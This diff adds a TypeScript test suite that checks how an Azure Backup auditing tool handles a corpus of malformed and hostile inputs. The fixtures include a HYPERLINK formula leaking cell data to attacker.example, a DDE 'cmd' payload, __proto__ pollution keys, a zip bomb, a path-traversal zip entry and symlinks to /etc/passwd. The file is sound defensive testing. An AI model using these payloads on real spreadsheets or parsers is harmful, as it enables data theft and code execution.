@@ -1,0 +1,329 @@
+/**
+ * The bad-input corpus (test/fixtures/bad/README.md lists every case): each
+ * file is refused with its exact message and leaves the store exactly as it
+ * was, or — where the input is odd but legitimate — is accepted and kept
+ * verbatim. Big inputs (100k-level nesting, 10 MB strings, a zip bomb,
+ * symlinks) are made at test time.
+ */
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
+import { before, describe, it } from 'node:test';
+import { EXPECTED } from '../../electron/core/import/index.ts';
+import { ruleIds } from '../../shared/domain/findingsRules.ts';
+import { makeZip, zerosBomb } from './zipkit.ts';
+import { badFixtures, cli, env, errorOf, expectUnchanged, storeState, tempDir } from './helpers.ts';
+
+const bad = (...p: string[]) => path.join(badFixtures, ...p);
+const ONE_ITEM = bad('import', 'good-one-item.json');
+const VM1_KEY =
+  '/subscriptions/00000000-0000-0000-0000-000000000001/resourcegroups/rg-app/providers/microsoft.recoveryservices/vaults/vault1/backupfabrics/azure/protectioncontainers/iaasvmcontainer;iaasvmcontainerv2;rg-app;vm1/protecteditems/vm;iaasvmcontainerv2;rg-app;vm1';
+
+/** A store holding one snapshot of the one-item fixture (vm1) and one annotation on it. */
+async function vm1Store(): Promise<string> {
+  const store = path.join(tempDir('vp-corpus-'), 'store.db');
+  const r = await cli(['import', ONE_ITEM, '--store', store, '--json', '--as-of', '2026-11-01T00:00:00Z'], env);
+  assert.equal(r.code, 0, r.stderr);
+  const a = await cli(['annotate', VM1_KEY, '--team', 'Ops', '--reason', 'seed', '--store', store, '--json'], env);
+  assert.equal(a.code, 0, a.stderr);
+  return store;
+}
+
+function write(name: string, content: string | Buffer): string {
+  const p = path.join(tempDir('vp-corpus-in-'), name);
+  fs.writeFileSync(p, content);
+  return p;
+}
+
+describe('bad-input corpus: import', () => {
+  let store: string;
+  before(async () => {
+    store = await vm1Store();
+  });
+  const refused = async (files: string[], message: string, extra: string[] = [], more: Record<string, string> = {}) => {
+    const err = await expectUnchanged(store, () => cli(['import', ...files, ...extra, '--store', store, '--json'], { ...env, ...more }));
+    assert.equal(err.message, message);
+    return err;
+  };
+
+  it('truncated JSON: located where the file ends', async () => {
+    const f = bad('import', 'truncated.json');
+    const err = await refused([ONE_ITEM, f], `${f}:10:30: invalid JSON: the JSON ends early (truncated file?)`);
+    assert.deepEqual([err.file, err.line, err.column], [f, 10, 30]);
+  });
+
+  it('Latin-1 text is not guessed: the first invalid UTF-8 byte is named', async () => {
+    const f = bad('import', 'latin1.json');
+    await refused([f], `${f}: not valid UTF-8 text (at byte 13); expected a JSON or CSV export`);
+  });
+
+  it('UTF-16 cut in the middle of a character', async () => {
+    const f = bad('import', 'utf16-cut.json');
+    await refused([f], `${f}: not valid UTF-16 text: it ends in the middle of a character (truncated file?); expected a JSON or CSV export`);
+  });
+
+  it('UTF-32 is named as such', async () => {
+    const f = bad('import', 'utf32.json');
+    await refused([f], `${f}: UTF-32 text; Vaultproof reads UTF-8 and UTF-16 — re-save it as UTF-8`);
+  });
+
+  it('wrong shape: {"value": "not a list"}', async () => {
+    const f = bad('import', 'value-not-a-list.json');
+    await refused([f], `${f}: a JSON object that is not a resource, a list ({value: [...]}) or a Resource Graph result; expected ${EXPECTED}`);
+  });
+
+  it('wrong shape: a list of numbers', async () => {
+    const f = bad('import', 'numbers.json');
+    await refused([f], `${f}: holds no Azure Backup data (found 3 × number); expected ${EXPECTED}`);
+  });
+
+  it('wrong shape: an id that is a number', async () => {
+    const f = bad('import', 'id-number.json');
+    await refused([f], `${f}: item 1: "id" is a number (12345), expected a resource id (a string)`);
+  });
+
+  it('wrong shape: properties that is a string', async () => {
+    const f = bad('import', 'properties-string.json');
+    await refused([f], `${f}: item 1: "properties" is a string ("Protected"), expected an object`);
+  });
+
+  it('a number beyond ±1.8e308', async () => {
+    const f = bad('import', 'huge-number.json');
+    await refused([f], `${f}: item 1: properties.protectedItemDataId: the number is too large to keep (beyond ±1.8e308; JSON.parse reads it as Infinity)`);
+  });
+
+  it('an impossible date', async () => {
+    const f = bad('import', 'impossible-date.json');
+    await refused([f], `${f}: item 1: properties.lastBackupTime: "2026-02-30T01:00:00Z" is not a real date and time`);
+  });
+
+  it('--as-of naming an impossible date', async () => {
+    await refused([ONE_ITEM], '--as-of "2026-02-30T00:00:00Z": not an ISO-8601 time (e.g. 2026-11-01T08:00:00Z)', ['--as-of', '2026-02-30T00:00:00Z']);
+  });
+
+  it('a Resource Graph CSV with an unclosed quote', async () => {
+    const f = bad('import', 'unclosed-quote.csv');
+    await refused([f], `${f}:2: invalid CSV: Quote Not Closed: the parsing is finished with an opening quote at line 2`);
+  });
+
+  it('100,000 levels of nesting inside an item: a BAD_INPUT, not a stack overflow', async () => {
+    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
+    const f = write('deep.json', fs.readFileSync(ONE_ITEM, 'utf8').replace('"properties": {', `"properties": {\n    "nested": ${deep},`));
+    await refused([f], `${f}: item 1: nested more than 100 levels deep (at properties.nested${'[0]'.repeat(21)}…); not an Azure export`);
+  });
+
+  it('the same nesting in a file big enough to be streamed', async () => {
+    const deep = `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`;
+    const f = write('deep-streamed.json', `{"value": [${deep}]}`);
+    await refused([f], `${f}: item 1: nested more than 100 levels deep (at ${'a.'.repeat(40)}…); not an Azure export`, [], { VAULTPROOF_STREAM_THRESHOLD: '1000' });
+  });
+
+  it('a symbolic link loop', async () => {
+    const dir = tempDir('vp-corpus-in-');
+    const a = path.join(dir, 'a.json');
+    fs.symlinkSync(path.join(dir, 'b.json'), a);
+    fs.symlinkSync(a, path.join(dir, 'b.json'));
+    await refused([a], `${a}: cannot read: ELOOP: too many symbolic links encountered, stat '${a}'`);
+  });
+
+  it('a symbolic link to a folder', async () => {
+    const dir = tempDir('vp-corpus-in-');
+    const link = path.join(dir, 'exports.json');
+    fs.symlinkSync(tempDir('vp-corpus-target-'), link);
+    await refused([link], `${link}: is a directory; give the export files inside it (e.g. ${path.join(link, '*.json')})`);
+  });
+});
+
+describe('bad-input corpus: import of odd but legitimate data keeps it verbatim', () => {
+  it('formula-looking names are data: stored and shown exactly as written', async () => {
+    const store = await vm1Store();
+    const f = bad('import', 'formula-names.json');
+    const r = await cli(['import', f, '--store', store, '--json', '--as-of', '2026-11-02T00:00:00Z'], env);
+    assert.equal(r.code, 0, r.stderr);
+    const id = (JSON.parse(r.stdout) as { snapshotId: string }).snapshotId;
+    const [item] = JSON.parse((await cli(['items', id, '--store', store, '--json'], env)).stdout) as Array<{ name: string }>;
+    assert.equal(item!.name, '=HYPERLINK("http://attacker.example/?leak="&A1,"vm1")');
+  });
+
+  it('a "__proto__" column in a Resource Graph CSV is a field, not a prototype', async () => {
+    const store = await vm1Store();
+    const r = await cli(['import', bad('import', 'proto-column.csv'), '--store', store, '--json', '--as-of', '2026-11-02T00:00:00Z'], env);
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(({} as Record<string, unknown>).polluted, undefined);
+    const id = (JSON.parse(r.stdout) as { snapshotId: string }).snapshotId;
+    const shown = JSON.parse((await cli(['show', id, VM1_KEY, '--store', store, '--json'], env)).stdout) as { raw: Record<string, unknown> };
+    assert.ok(Object.hasOwn(shown.raw, '__proto__'));
+    assert.deepEqual(shown.raw['__proto__' as keyof typeof shown.raw], { polluted: true });
+  });
+
+  it('a 10 MB name is stored whole and verifies', async () => {
+    const store = await vm1Store();
+    const name = 'x'.repeat(10 * 1024 * 1024);
+    const f = write('ten-mb-name.json', fs.readFileSync(ONE_ITEM, 'utf8').replace('"friendlyName": "vm1"', `"friendlyName": "${name}"`));
+    const r = await cli(['import', f, '--store', store, '--json', '--as-of', '2026-11-02T00:00:00Z'], env);
+    assert.equal(r.code, 0, r.stderr);
+    const id = (JSON.parse(r.stdout) as { snapshotId: string }).snapshotId;
+    const [item] = JSON.parse((await cli(['items', id, '--store', store, '--json'], env)).stdout) as Array<{ name: string }>;
+    assert.equal(item!.name.length, name.length);
+    assert.equal((await cli(['store', 'verify', '--store', store, '--json'], env)).code, 0);
+  });
+});
+
+describe('bad-input corpus: owners CSV', () => {
+  let store: string;
+  before(async () => {
+    store = await vm1Store();
+  });
+  const owners = (file: string, match = 'Server=name', column = 'owner=Owner') => cli(['owners', 'import', file, '--match', match, '--column', column, '--store', store, '--json'], env);
+
+  it('Latin-1 is refused, not read as "Jos\\uFFFD"', async () => {
+    const f = bad('owners', 'latin1.csv');
+    const err = await expectUnchanged(store, () => owners(f));
+    assert.equal(err.message, `${f}: not valid UTF-8 text (at byte 20); expected a JSON or CSV export`);
+  });
+
+  it('an unclosed quote names the line', async () => {
+    const f = bad('owners', 'unclosed-quote.csv');
+    const err = await expectUnchanged(store, () => owners(f));
+    assert.equal(err.message, 'unclosed-quote.csv line 2: not a readable CSV file (Quote Not Closed: the parsing is finished with an opening quote at line 2)');
+    assert.equal(err.line, 2);
+  });
+
+  it('a 10 MB owner is skipped with a warning, and nothing is written', async () => {
+    const f = write('cmdb.csv', `Server,Owner\nvm1,${'A'.repeat(10 * 1024 * 1024)}\n`);
+    const before = storeState(store);
+    const r = await owners(f);
+    assert.equal(r.code, 0, r.stderr);
+    const res = JSON.parse(r.stdout) as { warnings: string[]; entriesWritten: number; changes: unknown[] };
+    assert.deepEqual(res.warnings, [`line 2: Owner is ${10 * 1024 * 1024} characters long (more than 10000); skipped`]);
+    assert.equal(res.entriesWritten, 0);
+    assert.equal(storeState(store), before);
+  });
+
+  it('"__proto__" and "constructor" columns are data', async () => {
+    const s = await vm1Store();
+    const r = await cli(['owners', 'import', bad('owners', 'proto-columns.csv'), '--match', '__proto__=name', '--column', 'owner=constructor', '--store', s, '--json'], env);
+    assert.equal(r.code, 0, r.stderr);
+    const res = JSON.parse(r.stdout) as { matched: Array<{ line: number }>; changes: Array<{ field: string; newValue: string }> };
+    assert.deepEqual(res.matched.map((m) => m.line), [2]);
+    assert.deepEqual(res.changes.map((c) => [c.field, c.newValue]), [['owner', 'Bob']]);
+    assert.equal(({} as Record<string, unknown>).trim, undefined);
+  });
+
+  it('a formula-looking owner is stored verbatim', async () => {
+    const s = await vm1Store();
+    const r = await cli(['owners', 'import', bad('owners', 'formula-owner.csv'), '--match', 'Server=name', '--column', 'owner=Owner', '--store', s, '--json'], env);
+    assert.equal(r.code, 0, r.stderr);
+    const log = JSON.parse((await cli(['log', '--store', s, '--json'], env)).stdout) as Array<{ field: string; newValue: unknown }>;
+    assert.deepEqual(log.filter((e) => e.field === 'owner').map((e) => e.newValue), ["=cmd|' /C calc'!A0"]);
+  });
+
+  it('UTF-16 with a byte-order mark (Excel "Unicode text") is read', async () => {
+    const s = await vm1Store();
+    const r = await cli(['owners', 'import', bad('owners', 'utf16-bom.csv'), '--match', 'Server=name', '--column', 'owner=Owner', '--store', s, '--json'], env);
+    assert.equal(r.code, 0, r.stderr);
+    assert.deepEqual((JSON.parse(r.stdout) as { changes: Array<{ newValue: string }> }).changes.map((c) => c.newValue), ['Zoë']);
+  });
+});
+
+describe('bad-input corpus: audit profiles and rate cards', () => {
+  let store: string;
+  before(async () => {
+    store = await vm1Store();
+  });
+  const findings = (f: string) => cli(['findings', 'latest', '--profile', f, '--store', store, '--json'], env);
+  const cost = (f: string) => cli(['cost', 'latest', '--ratecard', f, '--store', store, '--json'], env);
+  const cases: Array<[string, (f: string) => ReturnType<typeof cli>, string, (f: string) => string]> = [
+    ['a truncated profile', findings, bad('profiles', 'truncated.json'), (f) => `${f}:6:3: invalid JSON: the JSON ends early (truncated file?)`],
+    ['a profile that is a list', findings, bad('profiles', 'array.json'), (f) => `${f}: not a valid audit profile: (root): Invalid input: expected object, received array`],
+    ['a profile threshold of 1e400', findings, bad('profiles', 'huge-number.json'), (f) => `${f}: not a valid audit profile: irPendingMaxDays: Invalid input: expected number, received Infinity`],
+    [
+      'a misspelt rule id in severities',
+      findings,
+      bad('profiles', 'misspelt-rule.json'),
+      (f) => `${f}: not a valid audit profile: severities.rpo-breech: unknown rule id (the rules are ${ruleIds.join(', ')})`,
+    ],
+    ['a "__proto__" key in a profile', findings, bad('profiles', 'proto-key.json'), (f) => `${f}: the key "__proto__" (at severities.__proto__) is not allowed`],
+    ['a rate card effective 2026-02-30', cost, bad('ratecards', 'impossible-date.json'), (f) => `${f}: not a valid rate card: effectiveDate: not a real calendar date`],
+    [
+      'a price of 1e308',
+      cost,
+      bad('ratecards', 'huge-price.json'),
+      (f) => `${f}: not a valid rate card: default.instanceFee.tiers.0.price: a price above 1000000 is not plausible (and would lose precision in cents)`,
+    ],
+    ['a lower-case currency', cost, bad('ratecards', 'lower-case-currency.json'), (f) => `${f}: not a valid rate card: currency: Invalid string: must match pattern /^[A-Z]{3}$/`],
+    [
+      'a "__proto__" region',
+      cost,
+      bad('ratecards', 'proto-region.json'),
+      (f) => `${f}: the key "__proto__" (at regions.__proto__) is not allowed`,
+    ],
+  ];
+  for (const [name, run, file, message] of cases) {
+    it(name, async () => {
+      const err = await expectUnchanged(store, () => run(file));
+      assert.equal(err.message, message(file));
+    });
+  }
+
+  it('a profile nested 100,000 levels deep is refused by its schema, not by the stack', async () => {
+    const profile = JSON.parse(fs.readFileSync(path.join(badFixtures, '..', '..', '..', 'assets', 'profiles', 'default.json'), 'utf8')) as Record<string, unknown>;
+    const f = write('deep-profile.json', JSON.stringify(profile).replace('"description":', `"description": ${'['.repeat(100_000)}${']'.repeat(100_000)}, "was":`));
+    const err = await expectUnchanged(store, () => findings(f));
+    assert.equal(err.message, `${f}: not a valid audit profile: description: Invalid input: expected string, received array; (root): Unrecognized key: "was"`);
+  });
+});
+
+describe('bad-input corpus: pack verification (exit 3, never valid, nothing unpacked)', () => {
+  const verify = async (location: string): Promise<string> => {
+    const r = await cli(['verify', location, '--json'], env);
+    assert.equal(r.code, 3, r.stdout + r.stderr);
+    const err = errorOf(r.stderr);
+    assert.equal(err.code, 'VERIFY_FAILED');
+    assert.equal((JSON.parse(r.stdout) as { intact: boolean }).intact, false);
+    return err.message;
+  };
+  const zip = (name: string, bytes: Buffer) => write(name, bytes);
+  const tiny = Buffer.from('{}');
+
+  it('a zip bomb: a manifest.json unpacking to 300 MB from 300 KB is refused unread', async () => {
+    const f = zip('bomb.zip', makeZip([{ name: 'manifest.json', deflated: zerosBomb(300) }, { name: 'manifest.p7s', data: tiny }]));
+    assert.ok(fs.statSync(f).size < 400 * 1024);
+    const rssBefore = process.memoryUsage().rss;
+    assert.equal(await verify(f), `manifest.json: manifest.json unpacks to ${300 * 1024 * 1024} bytes, more than any pack file Vaultproof reads whole (268435456); refused without reading it (a zip bomb?)`);
+    assert.ok(process.memoryUsage().rss - rssBefore < 200 * 1024 * 1024, 'the bomb was not unpacked');
+  });
+
+  it('a backslash path that climbs out', async () => {
+    const f = zip('backslash.zip', makeZip([{ name: 'manifest.json', data: tiny }, { name: '..\\evil.txt', data: tiny }]));
+    assert.equal(await verify(f), '../evil.txt: zip entry "../evil.txt" climbs out of the pack (..); refused');
+  });
+
+  it('a file twice in one zip', async () => {
+    const f = zip('dup.zip', makeZip([{ name: 'manifest.json', data: tiny }, { name: 'manifest.json', data: Buffer.from('{"x":1}') }]));
+    assert.equal(await verify(f), 'manifest.json: zip entry "manifest.json" appears twice; refused');
+  });
+
+  it('a truncated zip', async () => {
+    const whole = makeZip([{ name: 'manifest.json', data: Buffer.alloc(1000, 0x20) }, { name: 'manifest.p7s', data: tiny }]);
+    const f = zip('truncated.zip', whole.subarray(0, 600));
+    assert.equal(await verify(f), `truncated.zip: ${f} is not a readable zip (End of central directory record signature not found. Either not a zip file, or file is truncated.)`);
+  });
+
+  it('a symbolic link in a pack folder is never followed', async () => {
+    const dir = tempDir('vp-corpus-pack-');
+    fs.symlinkSync('/etc/passwd', path.join(dir, 'manifest.json'));
+    assert.equal(await verify(dir), 'manifest.json: manifest.json is a symbolic link; a pack holds plain files only');
+  });
+
+  it('a symlink entry in a zip is read as plain bytes, never followed', async () => {
+    const f = zip('symlink.zip', makeZip([{ name: 'manifest.json', data: Buffer.from('/etc/passwd'), mode: 0o120777 }, { name: 'manifest.p7s', data: tiny }]));
+    assert.equal(await verify(f), 'manifest.p7s: not a readable CMS signature (element at byte 0 runs past its container)');
+  });
+
+  it('a folder that is not a pack', async () => {
+    const dir = tempDir('vp-corpus-pack-');
+    fs.writeFileSync(path.join(dir, 'report.pdf'), '%PDF-1.7\n');
+    assert.equal(await verify(dir), 'manifest.json: missing: this is not a Vaultproof pack, or the manifest was removed');
+  });
+});
